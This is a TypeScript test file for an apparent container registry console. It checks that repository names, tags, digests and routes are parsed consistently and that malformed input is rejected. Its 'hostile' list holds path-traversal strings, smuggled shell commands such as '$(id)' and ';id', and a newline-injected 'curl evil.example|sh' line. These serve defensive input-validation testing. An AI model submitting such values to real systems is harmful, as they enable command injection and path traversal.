import { isRepositoryName as isStoredName, isTagName, parseDigest } from "@longshore/storage";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { digest, list, object, repositoryName, tagName } from "../src/api/decode.js";
import { repositoryPath } from "../src/api/paths.js";
import { CLIENTS, pullCommand } from "../src/lib/commands.js";
import { isDigest, isRepositoryName, isTag } from "../src/lib/grammar.js";
import { formatReference, parseReference, parseRoute } from "../src/lib/route.js";

const HEX = "0f".repeat(32);
const DIGEST = `sha256:${HEX}`;

function isStoredDigest(text: string): boolean {
  try {
    return parseDigest(text) === text;
  } catch {
    return false;
  }
}

/** Mostly what almost fits. */
const names = fc
  .array(fc.constantFrom("a", "0", "A", ".", "_", "__", "-", "--", "/", ":", "[", "%", "\n", "a".repeat(126)), {
    maxLength: 9,
  })
  .map((parts) => parts.join(""));
const digests = fc
  .tuple(
    fc.constantFrom("sha256", "sha384", "sha512", "sha1", "SHA256", ""),
    fc.constantFrom(":", "", "::"),
    fc.constantFrom(64, 96, 128, 63, 0),
    fc.constantFrom("a", "0", "A", "g"),
    fc.constantFrom("", "\n", "/"),
  )
  .map(([algorithm, colon, length, digit, end]) => `${algorithm}${colon}${digit.repeat(length)}${end}`);

describe("the console's grammar is the registry's", () => {
  it.each([
    ["names", isRepositoryName, isStoredName, names],
    ["tags", isTag, isTagName, names],
    ["digests", isDigest, isStoredDigest, digests],
  ])("of %s", (_, ours, theirs, texts) => {
    fc.assert(
      fc.property(fc.oneof(texts, fc.string()), (text) => {
        expect(ours(text)).toBe(theirs(text));
      }),
      { numRuns: 3000 },
    );
  });
});

describe("a reference", () => {
  it.each(["team/app", "team/app:1.0", `team/app@${DIGEST}`, "Host.example/app:A_1", "a/manifests/b"])(
    "is read: %s",
    (text) => {
      const reference = parseReference(text);
      expect(reference && formatReference(reference)).toBe(text);
      expect(parseRoute(`#/r/${encodeURI(text)}`).page.kind).toMatch(/^(?:repository|image)$/);
    },
  );

  const hostile = [
    `team/app/..%2f..%2fpublic/evil/blobs/sha256%253A${HEX}%3Fz=`,
    "team/app/../../other",
    "team/app%2f..%2fother",
    "team/%2e%2e/other",
    "team/%252e%252e/other",
    "team/.",
    "..",
    "team//app",
    "team/app/",
    "/team/app",
    "team/app%3Fn=1",
    "team/app%23x",
    "team/app%5c..",
    "team/app%0Acurl evil.example|sh",
    "team/app%00",
    "team/app%E2%80%A8x",
    "team/app;id",
    "team/$(id)",
    "team/App",
    "app/TEAM",
    "Team",
    "team/%61pp%20",
    "team/app:1%0A",
    "team/app:1%2f..%2f..%2fx",
    "team/app:",
    "team/app:..",
    "team/app:.1",
    "team/app:1:2",
    "team/app:%252e",
    "team/app@",
    "team/app@sha256:",
    `team/app@sha256:${HEX.toUpperCase()}`,
    `team/app@sha256:${HEX}%2f..`,
    `team/app@sha256:${HEX}%3Fz`,
    `team/app@sha256:${HEX}%0A`,
    `team/app@sha256%253A${HEX}`,
    `team/app:1@${DIGEST}`,
    "team/app%",
    "a".repeat(256),
  ];

  it.each(hostile)("isn't read: %s", (text) => {
    expect(parseRoute(`#/r/${text}`).page.kind).toBe("unknown");
    expect(parseRoute(`#/compare?left=${text}&right=a`).page.kind).toBe("unknown");
    expect(parseRoute(`#/compare?left=a:1&right=${text}`).page.kind).toBe("unknown");
  });

  it("of a comparison may be missing", () => {
    for (const query of ["", "?left=a:1", `?left=a:1&right=b@${DIGEST}`])
      expect(parseRoute(`#/compare${query}`).page.kind).toBe("compare");
  });

  it("is encoded in a path, and never leaves it", () => {
    expect(repositoryPath("team/app", "tags", "a?b#c/d%2e")).toBe("v2/team/app/tags/a%3Fb%23c%2Fd%252e");
    for (const name of ["..", "a/../b", "a//b", "", "."]) expect(() => repositoryPath(name, "x")).toThrow(RangeError);
    expect(() => repositoryPath("a", "..")).toThrow(RangeError);
  });

  it("has no command if it isn't one", () => {
    for (const client of CLIENTS) {
      expect(pullCommand(client, "localhost:5000", { name: "a/b", tag: "1" }, true)).toMatch(/^[\x20-\x7e]+$/);
      for (const [address, reference] of [
        ["localhost", { name: "a\nb" }],
        ["localhost", { name: "a", tag: "1;id" }],
        ["localhost", { name: "a", digest: `${DIGEST}\n` }],
        ["local host\n", { name: "a", tag: "1" }],
      ] as const)
        expect(() => pullCommand(client, address, reference, false)).toThrow(RangeError);
    }
  });

  it("is checked in answers", () => {
    const decode = list(object({ name: repositoryName, tag: tagName, digest }));
    const good = { name: "team/app", tag: "1", digest: DIGEST };
    expect(decode([good], "answer")).toEqual([good]);
    expect(() => decode([{ ...good, name: "a/../b" }], "answer")).toThrow("answer[0].name should be");
    expect(() => decode([{ ...good, tag: "1\n" }], "answer")).toThrow("answer[0].tag should be");
    expect(() => decode([{ ...good, digest: "../x" }], "answer")).toThrow("answer[0].digest should be");
  });
});
